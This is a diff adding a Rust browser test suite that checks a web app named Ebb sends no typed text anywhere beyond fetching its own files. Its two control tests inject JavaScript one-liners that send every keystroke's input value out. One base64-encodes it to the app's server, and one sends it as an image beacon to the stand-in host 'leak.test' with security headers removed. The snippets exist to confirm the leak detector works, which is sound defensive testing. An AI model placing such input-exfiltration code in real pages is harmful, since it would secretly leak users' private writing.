@@ -1,0 +1,166 @@
+//! The whole of Ebb in a network where everybody listens: all that is asked for are Ebb's own files.
+
+use anyhow::{Result, bail, ensure};
+use ebb_e2e::{Browser, Ears, Network, Person, Setting, apart, in_every_engine};
+use xtask::server::{Seen, Site};
+
+use crate::canary::{CANARY, forms_in};
+use crate::chatter::is_chatter;
+
+in_every_engine! {
+    nothing_said_is_heard_anywhere
+    nothing_said_in_spanish_is_heard_anywhere
+    words_told_to_our_own_server_are_heard
+    words_told_to_somebody_else_are_heard
+}
+
+async fn nothing_said_is_heard_anywhere(browser: Browser) -> Result<()> {
+    in_a_page(browser, "").await
+}
+
+async fn nothing_said_in_spanish_is_heard_anywhere(browser: Browser) -> Result<()> {
+    in_a_page(browser, "es/").await
+}
+
+async fn in_a_page(browser: Browser, page: &'static str) -> Result<()> {
+    if !apart(Network::Ears)? {
+        return Ok(());
+    }
+    let ears = Ears::open()?;
+    let person = Person::visiting_page(browser, page).await?;
+    person.is_kept().await?;
+    let ready = person.place.ebb.request_count();
+    goes_through_everything(&person).await?;
+    let found = told(&person, &ears, browser, ready);
+    ensure!(found.is_empty(), "{}", found.join("\n"));
+    Ok(())
+}
+
+/// The control: a build that tells our own server, in a form that hides it a little.
+async fn words_told_to_our_own_server_are_heard(browser: Browser) -> Result<()> {
+    leaks(
+        browser,
+        "addEventListener('input', (e) => fetch('/?' + btoa('x' + unescape(encodeURIComponent(e.target.value)))));",
+        |site| site,
+        &["base64", "asked"],
+    )
+    .await
+}
+
+/// The control: a build that tells somebody else, on a host that has lost its headers.
+async fn words_told_to_somebody_else_are_heard(browser: Browser) -> Result<()> {
+    leaks(
+        browser,
+        "addEventListener('input', (e) => { new Image().src = 'http://leak.test/' + encodeURIComponent(e.target.value); });",
+        |site| site.without_header("Content-Security-Policy").without_header("Connection-Allowlist")
+            .without_header("Cross-Origin-Embedder-Policy"),
+        &["percent", "leak.test"],
+    )
+    .await
+}
+
+async fn leaks(
+    browser: Browser,
+    leak: &str,
+    change: impl FnOnce(Site) -> Site,
+    wanted: &[&str],
+) -> Result<()> {
+    if !apart(Network::Ears)? {
+        return Ok(());
+    }
+    let ears = Ears::open()?;
+    let leaky = |site: Site| {
+        let path = site.path_of("/boot.*.js");
+        let script = site.text_of(&path) + leak;
+        // Without the worker, which would keep some of it in.
+        change(site.renamed(&path, script.into_bytes()).without("/sw.js"))
+    };
+    let person = Person::arriving(browser, &Setting::default(), leaky).await?;
+    person.until_ready().await?;
+    let ready = person.place.ebb.request_count();
+    person.checks_in(7, &["bored"]).await?;
+    person.starts("my-reasons").await?;
+    person.writes("#stage textarea", CANARY).await?;
+    for _ in 0..300 {
+        let found = told(&person, &ears, browser, ready).join("\n");
+        if wanted.iter().all(|part| found.contains(part)) {
+            return Ok(());
+        }
+        // The browser sends when it likes.
+        person.js("return 1").await?;
+    }
+    bail!("a leak went unheard: {:?}", told(&person, &ears, browser, ready))
+}
+
+/// Every screen, with the canary in every field that takes words, and in a file.
+async fn goes_through_everything(person: &Person) -> Result<()> {
+    let mut written = 0;
+    person
+        .walks(async |person: &Person, _: &str| {
+            if person.seen_now("#stage textarea").await? {
+                person.writes("#stage textarea", CANARY).await?;
+                written += 1;
+            }
+            Ok(())
+        })
+        .await?;
+    ensure!(written > 0, "no field takes words");
+    Ok(())
+}
+
+/// Everything that was asked of anybody and is more than Ebb's own files, in words.
+fn told(person: &Person, ears: &Ears, browser: Browser, ready: usize) -> Vec<String> {
+    let ebb = &person.place.ebb;
+    let mut found = Vec::new();
+    let requests = ebb.requests();
+    for (place, request) in requests.iter().enumerate() {
+        if let Some(why) = more_than_a_file(request) {
+            found.push(format!("{why}: {request:?}"));
+        }
+        let looks_for_newer =
+            request.path == "/sw.js" && request.header("Service-Worker").is_some();
+        if place >= ready && !looks_for_newer {
+            found.push(format!("asked after Ebb was ready: {request:?}"));
+        }
+    }
+    let heard = ears.so_far();
+    let outside = heard.said.iter().flatten().copied();
+    let names = heard.names.iter().flat_map(|name| name.bytes());
+    let bytes: Vec<u8> = ebb.heard().into_iter().chain(outside).chain(names).collect();
+    found.extend(forms_in(CANARY, &bytes).into_iter().map(|form| format!("the canary, {form}")));
+    for strategy in ebb_content::pack().strategies {
+        let forms = forms_in(strategy.id.as_str(), &bytes).into_iter();
+        found.extend(forms.map(|form| format!("{}, {form}", strategy.id)));
+    }
+    let strangers = heard.names.iter().filter(|name| !is_chatter(browser, name));
+    found.extend(strangers.map(|name| format!("somebody else's name: {name}")));
+    for said in &heard.said {
+        let text = String::from_utf8_lossy(said);
+        // Whoever the browser's own business is with is named in the first bytes, encrypted or not.
+        if !is_chatter(browser, &text) {
+            found.push(format!("said to somebody else: {text:.200}"));
+        }
+    }
+    found
+}
+
+fn more_than_a_file(request: &Seen) -> Option<&'static str> {
+    let is_ours = |path: &str| {
+        ["/", "/es/", "/sw.js", "/favicon.ico"].contains(&path)
+            || [".js", ".wasm", ".pack", ".css", ".webmanifest", ".svg", ".png"]
+                .iter()
+                .any(|end| path.ends_with(end))
+    };
+    let told = |name| request.header(name).is_some();
+    [
+        (request.method != "GET", "not a GET"),
+        (!is_ours(&request.path), "no file of ours"),
+        (request.query.is_some(), "asked with a query"),
+        (request.body_len > 0, "asked with a body"),
+        (told("Cookie"), "a cookie"),
+        (told("Referer"), "a referrer"),
+    ]
+    .into_iter()
+    .find(|(is_so, _)| *is_so)
+    .map(|(_, why)| why)
+}
